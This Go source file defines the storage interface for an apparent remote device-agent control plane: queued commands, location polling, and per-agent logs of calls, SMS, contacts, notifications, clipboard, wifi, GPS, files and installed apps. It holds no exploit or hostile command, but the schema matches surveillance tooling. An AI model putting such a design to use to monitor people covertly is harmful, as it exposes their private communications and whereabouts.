// Package store defines the persistence contract for agent records, queued
// commands, telemetry collections and poll configuration. Implementations
// (in-memory, PostgreSQL) must be safe for concurrent use and every write must
// be durable before the call returns; callers never re-read to confirm.
package store

import (
	"context"
	"encoding/json"
	"errors"
	"time"

	"github.com/musterhq/muster/internal/agents"
)

var (
	ErrAgentNotFound        = errors.New("agent not found")
	ErrDuplicateCommandKind = errors.New("a command of this kind is already queued")
	ErrSnapshotNotFound     = errors.New("snapshot not found")
	ErrNoPollConfig         = errors.New("no poll config stored")
)

// Collection names one append-only telemetry log kept per agent.
type Collection string

const (
	CollectionCalls         Collection = "calls"
	CollectionSMS           Collection = "sms"
	CollectionContacts      Collection = "contacts"
	CollectionNotifications Collection = "notifications"
	CollectionClipboard     Collection = "clipboard"
	CollectionWifi          Collection = "wifi"
	CollectionGPS           Collection = "gps"
	CollectionDownloads     Collection = "downloads"
)

// Snapshot names one replace-whole current value kept per agent.
type Snapshot string

const (
	SnapshotFileListing Snapshot = "files"
	SnapshotWifiScan    Snapshot = "wifi_scan"
	SnapshotApps        Snapshot = "apps"
	SnapshotPermissions Snapshot = "permissions"
)

// LogRecord is the stored envelope of one telemetry record. Key is the dedupe
// key over the record's natural identity fields, empty for pure-append
// collections. SeenAt starts equal to RecordedAt and is bumped when the same
// key is observed again (wifi networks).
type LogRecord struct {
	Key        string          `json:"key,omitempty"`
	Doc        json.RawMessage `json:"doc"`
	RecordedAt time.Time       `json:"recorded_at"`
	SeenAt     time.Time       `json:"seen_at"`
}

// QueueEntry is one not-yet-delivered command waiting for the agent to come
// back online. UID is unique within the agent's queue; at most one entry per
// kind may be pending per agent.
type QueueEntry struct {
	UID        string          `json:"uid"`
	Kind       string          `json:"kind"`
	Payload    json.RawMessage `json:"payload"`
	EnqueuedAt time.Time       `json:"enqueued_at"`
}

// PollConfig is the per-agent location poll setting. Zero disables polling.
type PollConfig struct {
	IntervalSeconds int `json:"interval_seconds"`
}

// Store is the persistence interface for all control-plane data.
type Store interface {
	// Agent records.
	GetAgent(ctx context.Context, id string) (*agents.Agent, error)
	UpsertAgent(ctx context.Context, agent *agents.Agent) error
	ListAgents(ctx context.Context) ([]agents.Agent, error)
	// DeleteAgent removes the agent record together with its queue, telemetry
	// collections, snapshots, poll config and connection history.
	DeleteAgent(ctx context.Context, id string) error

	// Connection history. OpenConnectionLog records a session start;
	// CloseConnectionLog stamps its end and is a no-op when the entry is gone
	// or already closed. ConnectionLogs lists entries newest first, capped at
	// limit when limit is positive.
	OpenConnectionLog(ctx context.Context, agentID string, log agents.ConnectionLog) error
	CloseConnectionLog(ctx context.Context, agentID, sid string, at time.Time, reason string) error
	ConnectionLogs(ctx context.Context, agentID string, limit int) ([]agents.ConnectionLog, error)

	// Command queue, insertion-ordered per agent.
	EnqueueCommand(ctx context.Context, agentID string, entry QueueEntry) error
	QueuedCommands(ctx context.Context, agentID string) ([]QueueEntry, error)
	DeleteQueuedCommand(ctx context.Context, agentID, uid string) error

	// Telemetry logs. AppendLogRecord inserts rec and reports true; when
	// rec.Key is non-empty and already present it leaves the log untouched and
	// reports false. RefreshLogRecord bumps SeenAt of the record with the given
	// key and reports whether such a record existed.
	AppendLogRecord(ctx context.Context, agentID string, c Collection, rec LogRecord) (bool, error)
	RefreshLogRecord(ctx context.Context, agentID string, c Collection, key string, seenAt time.Time) (bool, error)
	LogRecords(ctx context.Context, agentID string, c Collection) ([]LogRecord, error)

	// Snapshots.
	PutSnapshot(ctx context.Context, agentID string, s Snapshot, doc json.RawMessage) error
	GetSnapshot(ctx context.Context, agentID string, s Snapshot) (json.RawMessage, error)

	// Poll configuration. GetPollConfig returns ErrNoPollConfig when the agent
	// has no stored setting; an explicit zero means polling is disabled.
	GetPollConfig(ctx context.Context, agentID string) (PollConfig, error)
	PutPollConfig(ctx context.Context, agentID string, cfg PollConfig) error

	// Close releases the backing resources.
	Close() error
}
